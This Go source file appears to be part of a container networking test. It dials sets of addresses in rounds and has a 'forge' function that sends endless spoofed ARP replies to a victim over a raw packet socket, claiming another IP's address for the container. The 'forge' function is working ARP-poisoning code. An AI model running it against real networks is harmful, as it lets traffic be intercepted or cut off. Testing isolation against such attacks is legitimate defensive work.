package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"sync"
	"time"

	"golang.org/x/sys/unix"
)

// between is how long there is between two rounds of tries.
const between = 200 * time.Millisecond

// rounds dials all addresses at once and prints what came of each.
func rounds(addresses []string) {
	outcomes := make([]string, len(addresses))
	var wait sync.WaitGroup
	for i, address := range addresses {
		wait.Go(func() { outcomes[i] = outcome(dial(address)) })
	}
	wait.Wait()
	for i, address := range addresses {
		fmt.Printf("%s: %s\n", address, outcomes[i])
	}
	fmt.Println("round")
	time.Sleep(between)
}

// forge sends ARP answers (RFC 826) to a victim on a link, for ever: that claimed is at this container's hardware address. It needs
// CAP_NET_RAW.
func forge(ifname, victim, victimIP, claimed string) error {
	link, err := net.InterfaceByName(ifname)
	if err != nil {
		return err
	}
	to, err := net.ParseMAC(victim)
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
	if err != nil {
		return err
	}
	frame := append(append([]byte{}, to...), link.HardwareAddr...)
	frame = binary.BigEndian.AppendUint16(frame, unix.ETH_P_ARP)
	frame = append(frame, 0, 1, 8, 0, 6, 4, 0, 2)
	frame = append(append(frame, link.HardwareAddr...), netip.MustParseAddr(claimed).AsSlice()...)
	frame = append(append(frame, to...), netip.MustParseAddr(victimIP).AsSlice()...)
	frame = append(frame, make([]byte, 60-len(frame))...)
	for {
		if err := unix.Sendto(fd, frame, 0, &unix.SockaddrLinklayer{Ifindex: link.Index, Halen: 6}); err != nil {
			return err
		}
		time.Sleep(between)
	}
}
